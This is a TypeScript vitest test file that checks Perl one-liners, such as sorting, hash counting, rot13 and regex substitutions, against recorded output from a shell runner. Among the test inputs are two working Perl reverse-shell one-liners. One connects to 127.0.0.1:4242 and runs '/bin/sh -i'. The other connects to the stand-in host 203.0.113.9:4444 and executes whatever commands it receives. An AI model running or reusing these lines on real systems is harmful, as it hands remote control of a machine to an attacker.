import { describe, expect, it } from 'vitest';
import { runCommand } from '../test-shell.ts';

/** Recorded of perl 5.36 of Debian 12. */
const PROGRAMS = [
  [
    `perl -e 'print join(",", map { $_*2 } (1,2,3)), "\\n"; my @a=(3,1,2); print "@{[sort @a]}\\n"; printf("%s %d\\n", "x", scalar(@a));'`,
    '2,4,6\n1 2 3\nx 3\n',
  ],
  [
    `perl -e 'use strict; my %h=(a=>1,b=>2); foreach my $k (sort keys %h) { print "$k=$h{$k}\\n" }; $h{x}=5; print $h{x}+1, "\\n"'`,
    'a=1\nb=2\n6\n',
  ],
  [`perl -le 'print for reverse 1..3'`, '3\n2\n1\n'],
  [
    `perl -e 'my @w = split(/,/, "a,b,c"); print "$w[1] $#w @w\\n"; push @w, "d"; print join("-", @w), "\\n"; for my $i (0..$#w) { print $i }'`,
    'b 2 a b c\na-b-c-d\n0123',
  ],
  [
    `perl -e '@x = grep { $_ > 1 } (1,2,3); print "@x user\\@host\\n"; foreach (qw(p q)) { print "$_\\n" }'`,
    '2 3 user@host\np\nq\n',
  ],
  [`perl -e 'print map(chr, (104,105)), "\\n"; $a[2] = 7; print scalar(@a), $a[-1], "\\n"'`, 'hi\n37\n'],
] as const;

/** What perlfunc, perlop and IO::Socket::INET say. */
const ONE_LINERS = [
  [
    `printf 'a 1\\nb 2\\na 3\\n' | perl -lane '$h{$F[0]} += $F[1]; END { print "$_ $h{$_}" for sort keys %h }'`,
    'a 4\nb 2\n',
    '',
    0,
  ],
  [
    `perl -e '$c{$_}++ for qw(x y x); print "$_=$c{$_} " for sort { $c{$b} <=> $c{$a} } keys %c; print exists $c{x} ? "yes" : "no"'`,
    'x=2 y=1 yes',
    '',
    0,
  ],
  [`printf 'p\\nq\\n' | perl -ne 'print "$.:$_"'`, '1:p\n2:q\n', '', 0],
  [`echo Hello | perl -pe 'tr/a-zA-Z/n-za-mN-ZA-M/'`, 'Uryyb\n', '', 0],
  [`printf 'a\\nb\\nc\\nd\\n' | perl -ne 'print if /b/../c/'`, 'b\nc\n', '', 0],
  [
    `perl -e '$_ = "k=v; x=y"; print "$1>$2 " while /(\\w)=(\\w)/g; ($t = $_) =~ s/(\\w)=(\\w)/uc($2)."=$1"/ge; print $t'`,
    'k>v x>y V=k; Y=x',
    '',
    0,
  ],
  [
    `perl -e 'sub f { my ($n) = @_; return $n < 2 ? 1 : $n * f($n - 1) } my $r = {a => [1, {x => 9}]}; print f(10), " $r->{a}[1]{x}"'`,
    '3628800 9',
    '',
    0,
  ],
  [
    `perl -MIO::Socket -e 'IO::Socket::INET->new("127.0.0.1:9") or die "no: $!\\n"'`,
    '',
    'no: Connection refused\n',
    111,
  ],
  [
    `perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); if(connect(S,sockaddr_in(4242,inet_aton("127.0.0.1")))){open(STDIN,">&S");exec("/bin/sh -i");};'`,
    '',
    '',
    0,
  ],
  [
    `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.9:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
    '',
    '',
    0,
  ],
  [`perl -e 'open(F, "<", "/nope") or die "no: $!"'`, '', 'no: No such file or directory at -e line 1.\n', 2],
  [`perl -e 'print "a'`, '', `Can't find string terminator '"' anywhere before EOF at -e line 1.\n`, 255],
] as const;

describe('one-liners of Perl', () => {
  it.each(ONE_LINERS)('%s', async (line, stdout, stderr, exitCode) => {
    const run = await runCommand(line);
    expect({ stdout: run.stdout, stderr: run.stderr, exitCode: run.exitCode }).toEqual({ stdout, stderr, exitCode });
  });
});

describe('lists of Perl programs', () => {
  it.each(PROGRAMS)('%s', async (line, stdout) => {
    const run = await runCommand(line);
    expect({ stdout: run.stdout, stderr: run.stderr }).toEqual({ stdout, stderr: '' });
  });
});
